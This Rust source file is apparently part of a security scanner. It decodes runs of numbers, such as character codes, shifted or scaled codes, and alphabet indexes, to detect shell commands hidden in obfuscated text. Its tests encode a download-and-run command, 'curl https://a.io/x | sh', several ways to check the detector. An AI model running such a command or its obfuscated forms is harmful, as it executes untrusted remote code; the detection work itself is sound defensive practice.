//! Texts written as numbers: character codes, codes moved or multiplied by a constant, places in an
//! alphabet that stands in the same text.

use std::ops::Range;

use super::speech::is_command;
use super::{MIN_CODES, quoted};

/// Numbers in one text for which constants are tried.
const MAX_TRIED: usize = 16 * 1024;
/// Longest joint between two numbers: `)+String.fromCharCode(`.
const MAX_JOINT: usize = 32;
/// Largest factor that is tried.
const MAX_FACTOR: u32 = 16;
/// Alphabets of one text that are tried.
const MAX_ALPHABETS: usize = 8;

/// A run of numbers, joined alike.
pub(super) struct Numbers {
    pub(super) range: Range<usize>,
    pub(super) values: Vec<u32>,
}

impl Numbers {
    /// The numbers as bytes, where they are such.
    pub(super) fn bytes(&self) -> Option<Vec<u8>> {
        self.values.iter().map(|value| u8::try_from(*value).ok()).collect()
    }
}

/// Runs of numbers that may be characters: `[105, 109]`, `chr(105)+chr(109)`, `0x69, 0x6d`,
/// `A[2]+A[20]`.
pub(super) fn numbers(text: &str) -> Vec<Numbers> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        if !bytes[at].is_ascii_digit() || at > 0 && bytes[at - 1].is_ascii_alphanumeric() {
            at += 1;
            continue;
        }
        let start = at;
        let mut values = Vec::new();
        let mut end = at;
        // How the first two numbers are joined, where that is more than a comma.
        let mut form: Option<&[u8]> = None;
        while let Some((value, digits)) = number(&bytes[at..]) {
            values.push(value);
            at += digits;
            end = at;
            let joint = bytes[at..].iter().take(MAX_JOINT).take_while(|b| !b.is_ascii_digit());
            let between = &bytes[at..at + joint.count()];
            let fits = match form {
                Some(form) => form == between,
                None if is_plain(between) => true,
                None if values.len() == 1 && is_form(between) => {
                    form = Some(between);
                    true
                }
                None => false,
            };
            if !fits || at + between.len() >= bytes.len() || between.len() == MAX_JOINT {
                break;
            }
            at += between.len();
        }
        if values.len() >= 2 * MIN_CODES {
            found.push(Numbers { range: start..end, values });
        }
        at = at.max(end).max(start + 1);
    }
    found
}

/// The number at the start of a text, and its length.
fn number(bytes: &[u8]) -> Option<(u32, usize)> {
    const LONGEST: usize = 6;
    let length = bytes.iter().take(LONGEST).take_while(|b| b.is_ascii_alphanumeric()).count();
    let word = std::str::from_utf8(&bytes[..length]).ok()?;
    let value = match word.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None => word.parse().ok(),
    };
    Some((value?, length))
}

/// What joins two codes: commas, pluses, dots, blanks, and a call such as `chr(`.
fn is_plain(between: &[u8]) -> bool {
    between.iter().any(|b| matches!(b, b',' | b'+' | b'.' | b' '))
        && between.iter().all(|b| b.is_ascii_whitespace() || b",+.()[]&chrCa".contains(b))
}

/// Any other joint, which must then stand between all of them.
fn is_form(between: &[u8]) -> bool {
    between.iter().any(|b| matches!(b, b'+' | b'.' | b','))
        && between.iter().any(|b| matches!(b, b'(' | b'['))
        && !between.iter().any(|b| matches!(b, b'\n' | b'"' | b'\'' | b'`' | b'{' | b'}'))
}

/// The command or code that runs of numbers hide behind a constant or an alphabet.
pub(super) fn hidden(text: &str, runs: &[Numbers]) -> Vec<(Range<usize>, &'static str, String)> {
    const BUILDERS: [&str; 12] = [
        "chr",
        "Char",
        "char",
        "bytes",
        "Buffer",
        "pack",
        "join",
        "concat",
        "CodePoint",
        "implode",
        "Encoding",
        "putc",
    ];
    let mut found = Vec::new();
    if runs.is_empty() || !BUILDERS.iter().any(|word| text.contains(word)) {
        return found;
    }
    let alphabets = alphabets(text);
    let mut left = MAX_TRIED;
    for run in runs {
        if run.values.len() > left {
            break;
        }
        left -= run.values.len();
        let plain = run.bytes().is_some_and(|bytes| bytes.iter().all(|b| is_shown(u32::from(*b))));
        if plain && std::str::from_utf8(&run.bytes().unwrap_or_default()).is_ok_and(is_command) {
            continue;
        }
        let hit = spelled(&run.values, &alphabets)
            .map(|text| ("places in an alphabet", text))
            .or_else(|| moved(&run.values).map(|text| ("character codes with an offset", text)))
            .or_else(|| divided(&run.values).map(|text| ("character codes with a factor", text)));
        found.extend(hit.map(|(how, text)| (run.range.clone(), how, text)));
    }
    found
}

fn is_shown(code: u32) -> bool {
    matches!(code, 9 | 10 | 13 | 32..=126)
}

fn command(codes: impl Iterator<Item = u32>) -> Option<String> {
    let text: String = codes.map(|code| char::from_u32(code).unwrap_or('\0')).collect();
    is_command(&text).then_some(text)
}

/// The text behind codes that were all raised or lowered by the same number.
fn moved(values: &[u32]) -> Option<String> {
    let (least, most) = (*values.iter().min()?, *values.iter().max()?);
    // All characters must end up between a tabulator and a tilde.
    if most - least > 126 - 9 {
        return None;
    }
    (9..=126 - (most - least)).filter(|low| *low != least).find_map(|low| {
        let moved = || values.iter().map(|value| value - least + low);
        moved().all(is_shown).then(|| command(moved())).flatten()
    })
}

/// The text behind codes that were all multiplied by the same number.
fn divided(values: &[u32]) -> Option<String> {
    (2..=MAX_FACTOR).filter(|factor| values.iter().all(|value| value % factor == 0)).find_map(
        |factor| {
            let parts = || values.iter().map(|value| value / factor);
            parts().all(is_shown).then(|| command(parts())).flatten()
        },
    )
}

/// The text that is spelled by places in one of the alphabets, counted from nothing or from one.
fn spelled(values: &[u32], alphabets: &[&str]) -> Option<String> {
    alphabets.iter().flat_map(|alphabet| [(alphabet, 0), (alphabet, 1)]).find_map(
        |(alphabet, first)| {
            let letters = alphabet.as_bytes();
            let codes: Option<Vec<u32>> = values
                .iter()
                .map(|value| {
                    let place = usize::try_from(value.checked_sub(first)?).ok()?;
                    letters.get(place).map(|letter| u32::from(*letter))
                })
                .collect();
            command(codes?.into_iter())
        },
    )
}

/// Strings that hold many different characters and hardly one of them twice.
fn alphabets(text: &str) -> Vec<&str> {
    const LEAST: usize = 20;
    const MOST: usize = 128;
    quoted(text)
        .into_iter()
        .map(|range| &text[range])
        .filter(|body| {
            let mut seen = [false; 128];
            body.is_ascii()
                && (LEAST..=MOST).contains(&body.len())
                && body
                    .bytes()
                    .filter(|b| !std::mem::replace(&mut seen[usize::from(*b)], true))
                    .count()
                    * 10
                    >= body.len() * 9
        })
        .take(MAX_ALPHABETS)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const COMMAND: &str = "curl https://a.io/x | sh";

    fn found(text: &str) -> Vec<(&'static str, String)> {
        hidden(text, &numbers(text)).into_iter().map(|(_, how, text)| (how, text)).collect()
    }

    fn list(codes: impl Iterator<Item = u32>) -> String {
        codes.map(|code| code.to_string()).collect::<Vec<_>>().join(", ")
    }

    #[test]
    fn constants_and_alphabets_are_seen_through() {
        let codes = || COMMAND.bytes().map(u32::from);
        let raised = format!("''.join(chr(c - 7) for c in [{}])", list(codes().map(|c| c + 7)));
        assert_eq!(found(&raised), [("character codes with an offset", COMMAND.to_owned())]);
        let times =
            format!("String.fromCharCode(...[{}].map(c => c / 3))", list(codes().map(|c| c * 3)));
        assert_eq!(found(&times), [("character codes with a factor", COMMAND.to_owned())]);
        let alphabet = "abcdefghijklmnopqrstuvwxyz :/.|";
        let places = COMMAND.chars().map(|c| u32::try_from(alphabet.find(c).unwrap()).unwrap());
        let spelled = format!(
            "A = '{alphabet}'\njoin({})",
            places.map(|place| format!("A[{place}]")).collect::<Vec<_>>().join(" + ")
        );
        assert_eq!(found(&spelled), [("places in an alphabet", COMMAND.to_owned())]);
    }

    #[test]
    fn tables_of_numbers_say_nothing() {
        let widths = list((0..200).map(|n| n * 7 % 61 + 40));
        assert_eq!(found(&format!("chr(65); widths = [{widths}]")), []);
    }
}
